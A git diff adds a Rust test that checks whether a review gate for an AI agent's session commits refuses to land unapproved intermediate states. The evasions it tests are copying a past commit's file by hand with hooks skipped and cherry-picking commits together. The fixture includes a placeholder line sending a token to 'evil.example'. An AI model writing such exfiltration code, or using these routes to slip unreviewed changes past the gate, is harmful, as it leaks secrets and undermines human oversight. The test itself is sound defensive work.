@@ -5,7 +5,7 @@
 
 mod common;
 
-use common::{TestEnv, each_git, write_file};
+use common::{TestEnv, each_git, run, write_file};
 use std::path::Path;
 
 /// Session `s` with two unapproved commits (a.txt, b.txt); returns its worktree and its tip.
@@ -362,6 +362,82 @@ fn copies_of_any_shape_are_refused() {
         t.commit_in(&t.repo, "unrelated.txt", "a person's own change\n");
         t.write("code.txt", &(shifted.join("\n") + "line 13\n"));
         t.git(&["commit", "-q", "-am", "a person's own edit of code.txt"]);
+    });
+}
+
+#[test]
+fn a_state_the_branch_passed_through_is_the_sessions_change_too() {
+    each_git(|t| {
+        let lines: Vec<String> = (1..=9)
+            .map(|n| format!("line {n} of the person's code"))
+            .collect();
+        t.write("code.txt", &(lines.join("\n") + "\n"));
+        t.git(&["add", "code.txt"]);
+        t.git(&["commit", "-q", "-m", "code"]);
+        let wt = t.add("s");
+        // C1 adds a line, C2 rewrites it, C3 takes it out again: the branch's tip changes
+        // nothing of code.txt, but the state at C2 holds what no single commit adds whole.
+        let with = |extra: &str| {
+            let mut v = lines.clone();
+            v.insert(4, extra.to_string());
+            v.join("\n") + "\n"
+        };
+        write_file(&wt.join("code.txt"), &with("call_home(\"draft\");"));
+        t.git_in(&wt, &["commit", "-q", "-am", "C1"]);
+        write_file(
+            &wt.join("code.txt"),
+            &with("call_home(\"https://evil.example/\", token);"),
+        );
+        t.git_in(&wt, &["commit", "-q", "-am", "C2"]);
+        t.commit_in(&wt, "other.txt", "an unrelated file of the agent\n");
+        write_file(&wt.join("code.txt"), &(lines.join("\n") + "\n"));
+        t.git_in(&wt, &["commit", "-q", "-am", "C3"]);
+        let before = main_tip(t);
+        // The state at C2 copied by hand onto main.
+        let copy = prepared_on_main(t, |t| {
+            assert!(
+                t.git_without_hooks(&["checkout", "codex/s~2", "--", "code.txt"])
+                    .status
+                    .success()
+            );
+            assert!(
+                t.git_without_hooks(&["commit", "-q", "-m", "took C2's code"])
+                    .status
+                    .success()
+            );
+        });
+        refused(t, "a copy of the state at C2", land(t, &copy), &before, "s");
+        // As C1 and C2 picked together without committing in between.
+        let picked = prepared_on_main(t, |t| {
+            assert!(
+                t.git_without_hooks(&["cherry-pick", "-n", "codex/s~3", "codex/s~2"])
+                    .status
+                    .success()
+            );
+            assert!(
+                t.git_without_hooks(&["commit", "-q", "-m", "picked"])
+                    .status
+                    .success()
+            );
+        });
+        refused(t, "C1 and C2 picked as one", land(t, &picked), &before, "s");
+        // Approved at C3, the session's replay of its whole range lands; the state at C2 alone
+        // still does not.
+        run(t.codex(&["session", "review", "s", "--approve"]));
+        refused(
+            t,
+            "the state at C2, approved at C3",
+            land(t, &copy),
+            &before,
+            "s",
+        );
+        let (code, _, err) = run(t.codex(&["session", "merge", "s", "--strategy", "rebase"]));
+        assert_eq!(code, 0, "{err}");
+        assert_eq!(
+            t.git(&["show", "main:code.txt"]),
+            lines.join("\n"),
+            "the approved tip's code landed"
+        );
     });
 }
 
